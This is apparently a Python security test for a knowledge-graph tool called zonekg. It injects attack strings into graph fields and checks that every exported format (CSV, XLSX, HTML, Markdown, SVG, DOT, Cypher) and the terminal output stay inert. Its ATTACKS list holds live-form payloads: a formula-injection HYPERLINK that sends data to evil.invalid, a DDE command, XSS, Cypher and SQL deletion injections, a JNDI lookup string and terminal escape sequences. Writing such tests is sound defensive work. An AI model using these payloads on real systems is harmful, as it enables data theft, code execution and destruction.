#!/usr/bin/env python3
"""Names that attack the program which opens an output: outputs.py ZONEKG GRAPH.json FOLDER.

The graph's names, aliases, types, keys, titles and quotes are replaced by attacks, and everything that zonekg writes of it
is looked at: nothing may run, no markup may arise, no terminal may be commanded.
"""
import collections
import csv
import html.parser
import json
import os
import pathlib
import pty
import re
import shutil
import subprocess
import sys
import xml.etree.ElementTree as ElementTree
import zipfile

ATTACKS = [
    '=HYPERLINK("http://evil.invalid/?x="&A1,"click")', "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1",
    "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "=1+1;=2+2",
    "</script><script>evil()</script>", "<!--<script>evil()", "<img src=x onerror=evil()>", '" onmouseover="evil()',
    "' onfocus='evil()", "[click](javascript:evil())", "![x](http://evil.invalid/x.png)", "<javascript:evil()>",
    '"]; evil [label="x', "<<b>evil</b>>", 'x\\"; evil; "', "ends in a backslash\\", "\\N\\G", "*/ evil /*",
    "'}) DETACH DELETE n //", "\\'}) DETACH DELETE n //", "\\u0027}) DETACH DELETE n //", "`) DETACH DELETE (n",
    "\\u0060) DETACH DELETE (n", "${jndi:ldap://evil.invalid/x}", "'); DROP TABLE nodes; --",
    "\x1b]0;evil\x07", "\x1b[31mred\x1b[2J", "\x9b31mred", "back\x08\x08\x7f", "turned \u202egnp.exe\u202c", "\u2066x\u2069", "over\rwritten",
]
FORMULA = tuple("=+-@\t\r\n＝＋－＠")
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
QUOTED = re.compile(r"'(?:[^'\\]|\\.)*'|`(?:[^`]|``)*`", re.S)  # of Cypher
problems = []


def expect(condition, what):
    if not condition:
        problems.append(what)


def attacked(graph):
    """Every text that a report or a plugin decides about becomes an attack, in turn."""
    for i, node in enumerate(graph["nodes"]):
        text = ATTACKS[i % len(ATTACKS)]
        node["name"] = f"{text}{i // len(ATTACKS) or ''}"
        node["aliases"] = [ATTACKS[(i + 7) % len(ATTACKS)]]
        if i % 5 == 0:
            node["type"] = ATTACKS[i // 5 % len(ATTACKS)]
        node[ATTACKS[i % len(ATTACKS)] + " key"] = text
        for mention in node["mentions"]:
            mention["text"] = text
    for i, link in enumerate(graph["links"]):
        if i % 3 == 0:
            link["type"] = ATTACKS[i // 3 % len(ATTACKS)]
        for evidence in link.get("evidence", []):
            evidence["text"] = ATTACKS[i % len(ATTACKS)]
    for i, document in enumerate(graph["graph"]["documents"]):
        document["title"] = ATTACKS[(5 * i) % len(ATTACKS)]
        document["path"] = ATTACKS[(5 * i + 12) % len(ATTACKS)] + ".txt"
    return graph


class Page(html.parser.HTMLParser):
    def __init__(self, path):
        super().__init__()
        self.tags, self.attributes = collections.Counter(), []
        self.feed(path.read_text("utf-8"))

    def handle_starttag(self, tag, attributes):
        self.tags[tag] += 1
        self.attributes += attributes


def check_spreadsheets(folder):
    for name in ("g.nodes.csv", "g.edges.csv"):
        with open(folder / name, encoding="utf-8-sig", newline="") as file:
            for row in csv.reader(file, strict=True):
                for cell in row:
                    number = re.fullmatch(r"-?[0-9.]+(e[+-]?[0-9]+)?", cell)
                    expect(number or not cell.startswith(FORMULA), f"{name}: a formula: {cell[:60]!r}")
    with zipfile.ZipFile(folder / "g.xlsx") as book:
        for name in book.namelist():
            tags = {element.tag.split("}")[-1] for element in ElementTree.fromstring(book.read(name)).iter()}
            expect(not tags & {"f", "hyperlink", "oleObject", "ddeLink"}, f"XLSX: {name} has {sorted(tags)}")


def check_pages(folder, plain):
    explorer, harmless = Page(folder / "g.html"), Page(plain / "g.html")
    expect(explorer.tags == harmless.tags, f"explorer: other elements: {explorer.tags - harmless.tags}")
    for name in ("g.html", "g.report.html"):
        page = Page(folder / name)
        for key, value in page.attributes:
            expect(not key.startswith("on") or name == "g.html" and (key, value) in harmless.attributes, f"{name}: {key}={value}")
            expect("javascript:" not in (value or "") or key not in ("href", "src"), f"{name}: {key}={value}")
    report = Page(folder / "g.report.html")
    expect(not set(report.tags) & {"script", "iframe", "img", "object", "embed", "b"}, f"report: {report.tags}")
    for line in (folder / "g.md").read_text("utf-8").split("\n"):
        bare = re.sub(r"\\.", "", line)
        expect("<" not in bare and "](" not in bare.replace("](#", ""), f"Markdown: markup in {bare[:80]!r}")
    svg = ElementTree.parse(folder / "g.svg").getroot()
    for element in svg.iter():
        expect(element.tag.split("}")[-1] not in ("script", "foreignObject", "image"), f"SVG: {element.tag}")
        for key, value in element.attrib.items():
            expect(not key.startswith("on") and not value.startswith("javascript:"), f"SVG: {key}={value}")


def check_languages(folder, graph):
    drawn = subprocess.run(["gc", "-n", "-e", str(folder / "g.dot")], capture_output=True, text=True)
    counts = (len(graph["nodes"]), len(graph["links"]))
    expect(tuple(map(int, drawn.stdout.split()[:2])) == counts, f"DOT: {drawn.stdout} {drawn.stderr}, not {counts}")
    cypher = (folder / "g.cypher").read_text("utf-8")
    names = [token for token in QUOTED.findall(cypher) if token.startswith("`")]
    bare = QUOTED.sub("", cypher)
    expect("DELETE" not in bare and "evil" not in bare, "Cypher: an attack stands outside of quotes")
    # Neo4j reads \u0060 in a quoted name as the back quote itself.
    expect(not any("\\u" in name for name in names), "Cypher: a Unicode escape in a quoted name")
    for name in ("g.graphml", "g.gexf"):
        ElementTree.parse(folder / name)
    for name in ("g.json", "g.cx2"):
        json.loads((folder / name).read_text("utf-8"))


def on_terminal(command):
    """What the command writes when a terminal is its standard output."""
    ours, theirs = pty.openpty()
    process = subprocess.Popen(command, stdout=theirs, stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL)
    os.close(theirs)
    parts = []
    while True:
        try:
            part = os.read(ours, 65536)
        except OSError:  # Linux tells the end so
            break
        if not part:
            break
        parts.append(part)
    os.close(ours)
    process.wait()
    return b"".join(parts).replace(b"\r\n", b"\n")


def check_terminal(zonekg, folder, graph):
    path, names = str(folder / "g.json"), [n["id"] for n in graph["nodes"]]
    commands = [["list", path, "-e"], ["stats", path], ["audit", path], ["rank", path], ["components", path],
                ["communities", path], ["show", path, names[0], "-e"], ["show", path, names[36], "-e"],
                ["neighbors", path, names[0], "-e"], ["path", path, names[0], names[1], "-e"], ["show", path, "\x1b[31m"],
                ["list", path, "-w", "\x1b[31m = 1"], ["build", "\x1b[31m.txt", "-o", "x.json"], ["diff", path, path]]
    for command in commands:
        run = subprocess.run([zonekg, *command], capture_output=True, stdin=subprocess.DEVNULL)
        for stream in (run.stdout, run.stderr):
            found = CONTROL.search(stream.decode("utf-8", "replace"))
            expect(not found, f"{command[0]}: {found and found[0]!r} reaches the terminal")
    for command in (["list", path, "--json"], ["dossier", path, names[0], "-o", "-"], ["export", path, "-o", "-", "--format", "csv"],
                    ["export", path, "-o", "-", "--format", "json"], ["list", path]):
        found = CONTROL.search(on_terminal([zonekg, *command]).decode("utf-8", "replace"))
        expect(not found, f"{command[0]} on a terminal: {found and found[0]!r}")
    listed = subprocess.run([zonekg, "list", path, "--json"], capture_output=True, check=True).stdout
    expect(sorted(n["name"] for n in json.loads(listed)) == sorted(n["name"] for n in graph["nodes"]), "list --json: other names")


def main():
    zonekg, source, folder = sys.argv[1], pathlib.Path(sys.argv[2]), pathlib.Path(sys.argv[3])
    shutil.rmtree(folder, ignore_errors=True)
    plain = folder / "plain"
    plain.mkdir(parents=True)
    graph = attacked(json.loads(source.read_text("utf-8")))
    (folder / "g.json").write_text(json.dumps(graph), "utf-8")
    endings = "graphml dot gexf csv cypher cx2 ttl ftm.json sqlite xlsx svg md report.html html".split()
    outputs = [word for ending in endings for word in ("-o", str(folder / f"g.{ending}"))]
    subprocess.run([zonekg, "export", str(folder / "g.json"), *outputs], check=True)
    subprocess.run([zonekg, "export", str(source), "-o", str(plain / "g.html")], check=True)
    check_spreadsheets(folder)
    check_pages(folder, plain)
    check_languages(folder, graph)
    check_terminal(zonekg, folder, graph)
    print("\n".join(list(dict.fromkeys(problems))[:30]) or f"{len(ATTACKS)} attacks in {len(endings)} formats and on the terminal: none runs")
    sys.exit(1 if problems else 0)


if __name__ == "__main__":
    main()
